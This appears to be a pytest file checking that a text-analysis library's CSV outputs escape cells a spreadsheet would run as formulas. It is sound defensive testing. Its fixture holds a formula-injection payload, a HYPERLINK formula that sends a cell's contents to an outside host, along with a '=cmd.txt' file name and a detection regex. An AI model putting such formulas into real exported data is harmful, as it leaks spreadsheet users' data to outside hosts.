"""Tables of hostile articles and names, by every command that writes CSV: nothing that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from hedgelens import Collection
from hedgelens.collection import Columns

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"More")'
TEXT = f"""{FORMULA} perhaps clearly showed it, the mayor said.

@HarborOffice said that forty boats may have sunk. @HarborOffice said that fifty boats may have sunk.

-Perhaps not, she allegedly said.
"""
RUNS = re.compile(r"""^[\s"']*[=+\-@＝＋－＠]|^[\t\r\n]""")


@pytest.fixture
def article(tmp_path):
    path = tmp_path / "=cmd.txt"
    path.write_text(TEXT, encoding="utf-8")
    return path


def cells(text):
    """The cells of a CSV text that are no numbers."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len({len(row) for row in rows}) == 1
    return [cell for row in rows for cell in row if not re.fullmatch(r"-?[\d.]+(e-?\d+)?", cell)]


def check(text, raw_text):
    """Checks that no cell runs, and that the raw table differs from it by apostrophes only."""
    harmless, raw = cells(text), cells(raw_text)
    assert not [cell for cell in harmless if RUNS.match(cell) and not cell.startswith("'")]
    assert [cell for cell in raw if RUNS.match(cell)]
    assert harmless == [f"'{cell}" if RUNS.match(cell) else cell for cell in raw]


@pytest.mark.parametrize(
    "command",
    [
        *(
            ["analyze", "ARTICLE", "--table", table]
            for table in ("summary", "sentences", "attributions", "hedges", "sources", "owners")
        ),
        ["report", "ARTICLE"],
        ["concordance", "boats", "ARTICLE"],
        ["contrasts", "ARTICLE"],
    ],
    ids=" ".join,
)
def test_no_cell_of_a_command_runs(command_line, article, command):
    arguments = [article if word == "ARTICLE" else word for word in command]
    engine = [] if command[0] == "contrasts" else ["--engine", "rules"]
    code, out, err = command_line(*arguments, *engine, "--format", "csv")
    assert code == 0, err
    check(out, command_line(*arguments, *engine, "--format", "csv", "--raw-cells")[1])


def test_no_cell_of_a_batch_runs(command_line, article, tmp_path):
    (tmp_path / "in").mkdir()
    article.rename(tmp_path / "in" / article.name)
    assert command_line("report", "--batch", "in", "-o", "out", "--engine", "rules")[0] == 0
    assert command_line("report", "--batch", "in", "-o", "raw", "--engine", "rules", "--raw-cells")[0] == 0
    for name in ("articles.csv", "summary.csv"):
        check(*((tmp_path / folder / name).read_bytes().decode("utf-8") for folder in ("out", "raw")))


def test_the_table_that_a_page_copies_does_not_run(command_line, article, tmp_path):
    assert command_line("report", article, "-o", "page.html", "--engine", "rules")[0] == 0
    page = (tmp_path / "page.html").read_text(encoding="utf-8")
    details = json.loads(re.search(r'<script type="application/json"[^>]*>(.*?)</script>', page, re.DOTALL)[1])
    assert "'@HarborOffice" in details["csv"]
    check(details["csv"], details["csv"].replace("'", ""))


def test_tables_of_the_library_have_the_option_and_frames_stay_raw(article):
    collection = Collection.analyze([article], engine="rules")
    for found in (collection, collection[0]):
        check(found.to_csv(table="sentences"), found.to_csv(table="sentences", raw=True))
    assert any(text.startswith("=") for text in collection.table("sentences")["text"])


def test_a_table_reads_back_as_articles(article, tmp_path):
    table = tmp_path / "table.csv"
    Collection.analyze([article], engine="rules").to_csv(table, table="sentences")
    again = Collection.analyze(table, columns=Columns(id="index"), engine="rules")
    assert [a.article.text[0] for a in again] == ["'", "'", "'", "'"]


def test_lines_of_json_are_lines_to_everybody(command_line, tmp_path):
    path = tmp_path / "sea\u2028port\x85.txt"
    path.write_text("The mayor said that\u2028it may rain.\x85 It did\x0bnot.\n", encoding="utf-8")
    code, out, _ = command_line("analyze", path, path, "--engine", "rules", "--format", "jsonl")
    assert code == 0
    assert {json.loads(line)["article"]["id"] for line in out.splitlines()} == {Path(path).stem}
